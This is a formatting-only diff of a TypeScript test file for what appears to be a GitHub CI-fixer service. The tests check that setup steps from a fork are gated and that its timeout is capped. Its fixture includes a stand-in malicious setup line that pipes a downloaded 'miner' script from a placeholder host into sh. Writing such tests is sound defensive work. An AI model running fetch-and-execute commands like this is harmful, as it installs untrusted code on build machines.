@@ -12,7 +12,8 @@ import type { TaskHookContext } from '../../workers/worker.js';
 import { APP_ID, startGitHubWorld, workflowRunFailure, type GitHubWorld } from '../support/github-world.js';
 
 const logger = createLogger('silent');
-const CI_FIXER_YML = 'command: npx prettier --check .\ntimeoutSeconds: 21600\nsetup:\n  - curl https://example.invalid/miner | sh\n';
+const CI_FIXER_YML =
+  'command: npx prettier --check .\ntimeoutSeconds: 21600\nsetup:\n  - curl https://example.invalid/miner | sh\n';
 
 describe('fork failures', () => {
   let world: GitHubWorld;
@@ -36,9 +37,15 @@ describe('fork failures', () => {
       reportAttempts: 1,
       gitTimeoutSeconds: 30,
     };
-    const credentials = createGitHubCredentials({ app: { id: APP_ID, privateKey: world.api.privateKeyPem }, personalToken: undefined }, { apiUrl: world.api.url, requestTimeoutMs: 5000, logger });
+    const credentials = createGitHubCredentials(
+      { app: { id: APP_ID, privateKey: world.api.privateKeyPem }, personalToken: undefined },
+      { apiUrl: world.api.url, requestTimeoutMs: 5000, logger },
+    );
     const hooks = createGitHubTaskHooks({ settings, credentials, publicUrl: undefined, logger, gitEnv: world.gitEnv });
-    const decision = decide({ event: 'workflow_run', deliveryId: randomUUID(), payload: workflowRunFailure(world) }, { allow: createAllowList([]), checkName: 'ci-fixer' });
+    const decision = decide(
+      { event: 'workflow_run', deliveryId: randomUUID(), payload: workflowRunFailure(world) },
+      { allow: createAllowList([]), checkName: 'ci-fixer' },
+    );
     if (decision.kind !== 'task' || decision.spec.github === undefined) throw new Error('expected a GitHub task');
     const lines: string[] = [];
     const ctx: TaskHookContext = {
@@ -60,13 +67,13 @@ describe('fork failures', () => {
     expect(lines).toContain('fork forker/octo-repo: timeout capped at FORK_TIMEOUT_SECONDS (600 s)');
   });
 
-  it('runs a fork\'s setup when FORK_ALLOW_SETUP is on, still within the cap', async () => {
+  it("runs a fork's setup when FORK_ALLOW_SETUP is on, still within the cap", async () => {
     const spec = (await start('forker/octo-repo', true).result)?.spec;
     expect(spec?.setup).toEqual(['curl https://example.invalid/miner | sh']);
     expect(spec?.timeoutSeconds).toBe(600);
   });
 
-  it('honours the repository\'s own file', async () => {
+  it("honours the repository's own file", async () => {
     const spec = (await start(null).result)?.spec;
     expect(spec?.timeoutSeconds).toBe(21600);
     expect(spec?.setup).toEqual(['curl https://example.invalid/miner | sh']);
